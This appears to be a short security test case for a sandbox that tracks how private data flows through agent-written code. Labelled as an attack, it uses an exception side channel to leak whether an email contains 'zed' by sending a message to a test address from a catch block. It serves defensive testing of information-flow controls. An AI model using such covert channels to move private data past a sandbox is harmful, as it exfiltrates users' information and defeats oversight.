// attack: put a function into an array only in a labeled branch (through a variable, as the front end refuses
// a visible one); the runtime refuses to store it, and the catch sends
// normal: leaks (implicit flow: the function itself was created outside the branch)
const m = await getEmail('m1');
const f = () => 1;
let x = 1;
if (m.body.includes('zed')) {
  x = f;
}
const a = [1];
try {
  a.push(x);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'function' });
}
